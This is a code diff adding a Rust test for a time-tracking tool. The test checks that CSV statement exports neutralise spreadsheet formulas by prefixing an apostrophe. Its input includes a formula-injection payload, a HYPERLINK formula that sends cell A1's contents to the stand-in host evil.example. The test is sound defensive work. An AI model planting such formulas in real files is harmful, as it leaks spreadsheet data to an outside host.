@@ -640,3 +640,49 @@ fn a_running_timer_s_start_is_not_moved_to_another_day() {
         1
     );
 }
+
+/// A statement's CSV never hands a spreadsheet a formula: a task title, note or client name
+/// that starts like one (as a Trello card's title can) starts with an apostrophe.
+#[test]
+fn a_statement_csv_carries_no_formula() {
+    let mut d = Desk::new();
+    d.at("2026-03-20 09:00");
+    d.ok(&["client", "add", "Acme", "--rate", "40"]);
+    d.ok(&["client", "add", "@Home"]);
+    let t = d.id(&[
+        "task",
+        "add",
+        "Acme",
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    ]);
+    d.ok(&[
+        "time",
+        "log",
+        &t.to_string(),
+        "1h",
+        "--on",
+        "2026-03-10 10:00",
+        "--note",
+        "+1 call; -2 notes",
+    ]);
+    d.ok(&[
+        "time",
+        "log",
+        "--client",
+        "@Home",
+        "30m",
+        "--on",
+        "2026-03-11 10:00",
+        "--note",
+        "plain",
+    ]);
+    let csv = d.ok(&["statement", "Acme", "--month", "2026-03", "--csv"]);
+    assert!(
+        csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""),
+        "{csv}"
+    );
+    assert!(csv.contains(",'+1 call; -2 notes"), "{csv}");
+    let all = d.ok(&["statement", "--all", "--month", "2026-03", "--csv"]);
+    assert!(all.contains("\n'@Home,2026-03,"), "{all}");
+    assert!(all.contains("\nAcme,2026-03,"), "{all}");
+}
